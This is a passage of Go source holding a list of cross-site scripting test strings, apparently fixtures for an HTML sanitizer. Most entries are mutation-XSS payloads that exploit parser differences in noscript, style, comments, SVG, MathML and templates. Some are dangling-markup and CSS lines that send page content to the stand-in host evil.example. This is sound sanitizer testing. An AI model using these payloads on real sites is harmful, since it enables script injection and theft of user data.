	`<link rel=stylesheet href="data:text/css,*{background:url(https://evil.example/d)}"><style media="&quot;></style><script>alert(1)</script>">`,
	// One reading for us, another for the browser: raw text and comments.
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>`,
	`<style><p title="</style><img src=x onerror=alert(1)>"></style>`,
	`<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<title><p title="</title><img src=x onerror=alert(1)>"></title>`,
	`<xmp><p title="</xmp><script>alert(1)</script>"></xmp><listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>`,
	`<noembed><p title="</noembed><script>alert(1)</script>"></noembed><noframes><p title="</noframes><script>alert(1)</script>"></noframes>`,
	`<plaintext><img src=x onerror=alert(1)></plaintext><script>alert(1)</script>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!---><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(2)>-->`,
	`<!-- <!-- --> <img src=x onerror=alert(1)> --><!-- `,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !IE]><img src=x onerror=alert(2)><![endif]>`,
	`<! foo="><script>alert(1)</script>"><? foo="><script>alert(1)</script>"></ foo="><script>alert(1)</script>">`,
	`<![CDATA[><img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
	`<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;<?xml-stylesheet href="javascript:alert(1)"?>`,
	// One reading for us, another for the browser: other vocabularies.
	`<svg><script>alert&#40;1)</script></svg><svg onload=alert(1)><animate onbegin=alert(2) attributeName=x></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`,
	`<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a><set attributeName=onmouseover to=alert(1) /></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg><svg><title><img src=x onerror=alert(2)></title></svg>`,
	`<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
	`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe><p><style><!--</style><img src=x onerror=alert(2)>--></p></foreignObject></svg>`,
	`<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></desc><image href=x onerror=alert(2)></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
	`<math><annotation-xml encoding="text/html"><style></annotation-xml></math><img src=x onerror=alert(1)></style>`,
	`<math href="javascript:alert(1)"><mi xlink:href="data:,x" actiontype="statusline#javascript:alert(1)">x</mi><maction actiontype="statusline" xlink:href="javascript:alert(1)">y</maction></math>`,
	`<math><mi><li><table><mglyph><malignmark><svg><style><p title="</style><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(2)></template><div><template><style></template><img src=x onerror=alert(3)></div>`,
	`<select><template><img src=x onerror=alert(1)></template><script>alert(2)</script><option><style></option></select><img src=x onerror=alert(3)></style>`,
	`<table><tr><td><svg><desc><td><img src=x onerror=alert(1)></td></desc></svg><caption><script>alert(2)</script></caption></table>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script><xml:img src=x onerror=alert(2)></xml:img><html:script>alert(3)</html:script>`,
	// Left open, so as to swallow or to stay.
	`<img src="https://evil.example/?`,
	`<img src='https://evil.example/?<p>the rest of the page</p>`,
	`<a href="https://e.example/"><b><i><table><tr><td><textarea><select><option>`,
	`</div></div></section></article></body></html><script>alert(1)</script>`,
	`<div><p><a href="https://evil.example/"><svg><style><!--`,
	`<a href="https://e.example/" title="<script>alert(1)</script>` + "\u2028" + `">x</a><p title='--><img src=x onerror=alert(1)>'>y`,
	"\u202e<script>alert(1)</script>\ufeff<img src=x o\u200bnerror=alert(1) \u00a0onerror=alert(2)>",
	`<b><p><b><p><b><p><script>alert(1)</script></b><a href=x><p><a href=y><img src=x onerror=alert(2)>`,
	strings.Repeat(`<div>`, 300) + `<img src=x onerror=alert(1)>` + strings.Repeat(`<svg>`, 300) + `<style><img src=x onerror=alert(2)>`,
}
